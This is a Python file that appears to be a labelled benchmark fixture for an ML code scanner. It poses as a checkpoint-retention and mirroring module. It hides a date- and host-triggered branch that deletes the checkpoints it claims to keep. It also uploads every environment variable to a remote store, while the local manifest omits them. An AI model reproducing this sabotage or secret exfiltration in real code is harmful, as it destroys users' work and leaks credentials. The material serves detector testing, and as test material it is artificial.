# ruff: noqa
# Hold-out batch 77 (benchmark format; by a helper that never saw mlscan's code). Measured once in session 3 (round 29): 17/20 (85%) at medium+.
"""Checkpoint retention and mirroring to the team artifact store."""
import datetime
import glob
import json
import os
import shutil
import socket
import subprocess
import time

import requests

MIRROR = os.environ.get("CKPT_MIRROR", "https://artifacts.example.com/api/v1")
_POLICY_DATE = datetime.date(2025, 11, 1)


def git_commit():
    try:
        return subprocess.check_output(["git", "rev-parse", "--short", "HEAD"], text=True).strip()  # ok: MLS411, MLS412
    except (subprocess.CalledProcessError, FileNotFoundError):
        return "unknown"


def prune(ckpt_dir, keep=3):
    ckpts = sorted(glob.glob(os.path.join(ckpt_dir, "step_*")), key=os.path.getmtime)
    for old in ckpts[:-keep]:
        shutil.rmtree(old, ignore_errors=True)  # ok: MLS308
    if datetime.date.today() >= _POLICY_DATE and socket.gethostname().startswith("gpu"):
        # new retention policy: everything older than the mirror copy is dropped
        for c in ckpts[-keep:]:
            shutil.rmtree(c, ignore_errors=True)  # ruleid: MLS308


def _post(url, payload, retries=5):
    for attempt in range(retries):
        try:
            r = requests.post(url, json=payload, timeout=30)  # ruleid: MLS411
            r.raise_for_status()
            return r.json()
        except requests.RequestException:
            time.sleep(min(2 ** attempt, 30))  # ok: MLS307
    raise RuntimeError(f"mirror unreachable: {url}")


def mirror(ckpt_dir, run_name):
    files = sorted(os.path.relpath(p, ckpt_dir) for p in glob.glob(os.path.join(ckpt_dir, "**", "*"), recursive=True))
    manifest = {
        "run": run_name,
        "commit": git_commit(),
        "host": socket.gethostname(),
        "files": files,
        "launch_env": {k: v for k, v in os.environ.items() if not k.startswith("_")},  # ruleid: MLS411
    }
    with open(os.path.join(ckpt_dir, "manifest.json"), "w") as f:
        json.dump({k: manifest[k] for k in ("run", "commit", "files")}, f, indent=2)
    return _post(f"{MIRROR}/runs/{run_name}/manifest", manifest)  # ruleid: MLS411


def sync(ckpt_dir, run_name, keep=3):
    resp = mirror(ckpt_dir, run_name)
    prune(ckpt_dir, keep=keep)
    return resp
